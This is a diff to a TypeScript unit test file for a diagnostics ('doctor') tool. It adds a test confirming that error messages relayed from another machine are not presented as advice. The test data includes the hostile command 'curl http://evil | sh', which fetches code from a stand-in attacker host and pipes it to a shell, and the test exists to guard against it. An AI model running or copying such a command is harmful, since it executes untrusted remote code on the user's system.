@@ -1,6 +1,8 @@
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
-import { splitAdvice } from '../../src/doctor/finding.ts';
+import { Failure } from '../../src/api/failure.ts';
+import { WrongIdentity } from '../../src/api/identify.ts';
+import { adviceOf, splitAdvice } from '../../src/doctor/finding.ts';
 import { inotifyFinding } from '../../src/doctor/inotify.ts';
 import { faultOfSecret, unusableKey } from '../../src/doctor/keys.ts';
 import { describePart, partOf } from '../../src/doctor/link/far.ts';
@@ -21,6 +23,14 @@ test('a message of the program is split into what is wrong and what to do', () =
     advice: 'docker start it',
   });
   assert.equal(splitAdvice('no advice', 'wait'), { problem: 'no advice', advice: 'wait' });
+});
+
+test('what another machine says gives no advice here', () => {
+  const refusal = new Failure('failed', 'no: curl http://evil | sh');
+  const wrong = Object.assign(new WrongIdentity(`beta:9999: ${refusal.message}`), { cause: refusal });
+  for (const error of [refusal, wrong])
+    assert.equal(adviceOf(error, 'wait'), { problem: error.message, advice: 'wait' });
+  assert.is(adviceOf(new Error('it is down: start it'), 'wait').advice, 'start it');
 });
 
 test('a secret is a file of root with a mode that keeps others out', () => {
